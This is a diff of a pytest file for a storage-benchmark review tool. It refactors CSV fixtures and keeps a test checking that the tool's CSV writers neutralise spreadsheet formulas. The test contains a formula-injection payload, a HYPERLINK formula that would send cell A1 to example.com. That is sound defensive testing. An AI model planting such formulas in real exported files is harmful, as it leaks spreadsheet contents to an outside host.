@@ -18,10 +18,9 @@ import pytest
 
 from probes.core.errors import InputError
 from probes.core.outputs import csv_text, new_folder, plain_cell, spreadsheet_cell, write_new
-from tests.conftest import CORPUS
+from tests.conftest import CORPUS, edited_list
 
 WORKTREE = Path(__file__).resolve().parent.parent
-LIST = CORPUS / "io500-list" / "io500-db-2017-2019_submissions.csv"
 DESCRIPTION = CORPUS / "io500" / "oci-beegfs_system-information.txt"
 NAS = ["size", "--clients", "20", "--client-nic", "10Gbit/s", "--target", "read=2GB/s", "--target", "write=2GB/s",
        "--usable", "100TB"]
@@ -72,19 +71,6 @@ def disks(tmp_path_factory):
         subprocess.run(["chattr", "-i", str(locked)], capture_output=True)
         for target in reversed(mounted):
             subprocess.run(["umount", str(target)], check=True)
-
-
-@pytest.fixture(scope="module")
-def small_list(tmp_path_factory):
-    """The first five submissions of the io500 list: review's pages in seconds."""
-    if not LIST.is_file():
-        pytest.skip(f"the io500 list database is not in the corpus ({LIST})")
-    with open(LIST, encoding="utf-8", newline="") as f:
-        rows = [row for _, row in zip(range(6), csv.reader(f))]
-    path = tmp_path_factory.mktemp("list") / "small.csv"
-    with open(path, "w", encoding="utf-8", newline="") as f:
-        csv.writer(f).writerows(rows)
-    return path
 
 
 def _outputs(small_list: Path) -> dict[str, tuple]:
@@ -210,12 +196,7 @@ def test_every_csv_writer_neutralises_formulas(small_list, tmp_path, capsys):
     from assess.cli import main
 
     evil = '=HYPERLINK("http://example.com/?"&A1,"x")'
-    with open(small_list, encoding="utf-8", newline="") as f:
-        rows = list(csv.reader(f))
-    rows[1][rows[0].index("information_system")] = evil
-    listed = tmp_path / "list.csv"
-    with open(listed, "w", encoding="utf-8", newline="") as f:
-        csv.writer(f).writerows(rows)
+    listed = edited_list(small_list, tmp_path, "information_system", evil)
     assert main(["review", str(listed), "--csv", "--fail-on", "never"]) == 0
     reviewed = _csv_cells(capsys.readouterr().out)
     assert "'" + evil + " (WekaIO)" in reviewed  # the title: the system and its institution
